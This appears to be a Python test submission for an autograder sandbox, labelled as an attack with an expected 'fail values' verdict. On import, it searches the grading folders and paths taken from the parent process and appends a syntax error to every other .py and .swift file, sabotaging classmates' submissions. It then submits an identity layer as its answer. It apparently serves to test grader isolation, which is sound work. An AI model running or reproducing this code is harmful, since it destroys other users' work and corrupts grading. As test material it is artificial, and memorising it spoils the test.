# Attack (PyTorch): find the folder being graded and append a syntax error to every other
# answer file in it.
# Expected: no course file is visible or writable; the classmates after it still pass. The
# layer (the identity) fails `values`.
# verdict: fail values
import os
import torch
from torch import nn

def sabotage():
    folders = {os.getcwd(), "/work", "/autograder/submission", "/root", os.path.dirname(os.path.abspath(__file__))}
    try:
        with open("/proc/%d/cmdline" % os.getppid(), "rb") as f:
            folders |= {a.decode() for a in f.read().split(b"\0") if a.startswith(b"/")}
    except OSError:
        pass
    hit = 0
    for folder in folders:
        for root, _, files in os.walk(folder):
            for name in files:
                path = os.path.join(root, name)
                if name.endswith((".swift", ".py")) and path != os.path.abspath(__file__):
                    try:
                        with open(path, "a") as f:
                            f.write("\n#error(\"sabotaged\")\n(\n")
                        hit += 1
                    except OSError:
                        pass
    print("SABOTAGED %d file(s)" % hit)

sabotage()  # once, when the file is imported


class Identity(nn.Module):
    def forward(self, x):
        return x

answer = Identity
